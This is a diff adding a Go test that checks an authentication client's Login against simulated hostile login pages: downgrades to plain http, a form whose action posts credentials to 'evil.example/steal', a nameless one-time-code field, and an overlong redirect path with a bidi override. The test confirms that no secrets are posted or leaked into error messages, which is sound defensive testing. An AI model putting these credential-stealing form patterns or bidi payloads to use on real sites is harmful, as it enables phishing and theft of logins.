@@ -406,6 +406,98 @@ func TestLoginHostilePages(t *testing.T) {
 	}
 }
 
+// TestLoginHostilePagesSay: what Login says of pages the emulator never
+// serves, and what it sends them.
+func TestLoginHostilePagesSay(t *testing.T) {
+	const password = `<form method="post"><input type="hidden" name="csrfmiddlewaretoken" value="x"><input type="email" name="email"><input type="password" name="password"></form>`
+	var posts []string
+	var mu sync.Mutex
+	tests := []struct {
+		name    string
+		tls     bool
+		handler func(host string) http.HandlerFunc
+		want    string // in the message
+		posts   int
+	}{
+		{"redirect to plain http", true, func(host string) http.HandlerFunc {
+			return func(w http.ResponseWriter, r *http.Request) {
+				http.Redirect(w, r, "http://"+host+"/login/", http.StatusFound)
+			}
+		}, "redirected to plain http", 0},
+		{"form posting over plain http", true, func(host string) http.HandlerFunc {
+			return func(w http.ResponseWriter, r *http.Request) {
+				fmt.Fprint(w, strings.Replace(password, `method="post"`, `method="post" action="http://`+host+`/login/"`, 1))
+			}
+		}, "the form posts to plain http", 0},
+		{"form posting to another site", false, func(string) http.HandlerFunc {
+			return func(w http.ResponseWriter, r *http.Request) {
+				fmt.Fprint(w, strings.Replace(password, `method="post"`, `method="post" action="https://evil.example/steal"`, 1))
+			}
+		}, "the form posts to another site (evil.example)", 0},
+		{"a one-time code field without a name", false, func(string) http.HandlerFunc {
+			return func(w http.ResponseWriter, r *http.Request) {
+				if r.Method == http.MethodGet {
+					fmt.Fprint(w, password)
+					return
+				}
+				fmt.Fprint(w, `<form method="post"><input type="hidden" name="csrfmiddlewaretoken" value="x"><input autocomplete="one-time-code" inputmode="numeric"></form>`)
+			}
+		}, "the one-time code field has no name", 1},
+		{"a long path with a bidi override", false, func(string) http.HandlerFunc {
+			return func(w http.ResponseWriter, r *http.Request) {
+				if strings.HasPrefix(r.URL.Path, "/o/") {
+					http.Redirect(w, r, "/"+strings.Repeat("A", 60_000)+"%E2%80%AE", http.StatusFound)
+					return
+				}
+				w.WriteHeader(500)
+			}
+		}, "GET /AAAA", 0},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			posts = nil
+			var hs *httptest.Server
+			h := func(w http.ResponseWriter, r *http.Request) {
+				if r.Method == http.MethodPost {
+					r.ParseForm()
+					mu.Lock()
+					posts = append(posts, r.PostForm.Encode())
+					mu.Unlock()
+				}
+				tt.handler(hs.Listener.Addr().String())(w, r)
+			}
+			if tt.tls {
+				hs = httptest.NewTLSServer(http.HandlerFunc(h))
+			} else {
+				hs = httptest.NewServer(http.HandlerFunc(h))
+			}
+			defer hs.Close()
+			c := &auth.Client{HTTP: hs.Client(), AccountURL: hs.URL, ClientID: auth.DefaultClientID, RedirectURI: auth.DefaultRedirectURI, UserAgent: "t"}
+			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+			defer cancel()
+			totp := func(context.Context, int, time.Duration) (string, error) { return "CANARY-code", nil }
+			_, err := c.Login(ctx, auth.LoginInput{Email: canaryEmail, Password: canaryPassword, TOTP: totp})
+			if !errors.Is(err, auth.ErrUnexpectedPage) && !errors.Is(err, auth.ErrServer) || !strings.Contains(err.Error(), tt.want) {
+				t.Fatalf("err = %v, want one that says %q", err, tt.want)
+			}
+			if msg := err.Error(); len(msg) > 300 || strings.ContainsRune(msg, '\u202e') {
+				t.Errorf("the message is %d bytes, or carries a bidi override: %.300q", len(msg), msg)
+			}
+			mu.Lock()
+			defer mu.Unlock()
+			if len(posts) != tt.posts {
+				t.Errorf("%d posts, want %d", len(posts), tt.posts)
+			}
+			assertNoSecrets(t, "error", err.Error(), canaryPassword, "CANARY-code")
+			for _, p := range posts {
+				if strings.Contains(p, "CANARY-code") {
+					t.Errorf("a code was posted: %s", p)
+				}
+			}
+		})
+	}
+}
+
 func TestLoginInputRedacts(t *testing.T) {
 	in := auth.LoginInput{Email: canaryEmail, Password: canaryPassword}
 	for _, s := range []string{fmt.Sprint(in), fmt.Sprintf("%+v", in), fmt.Sprintf("%#v", in)} {
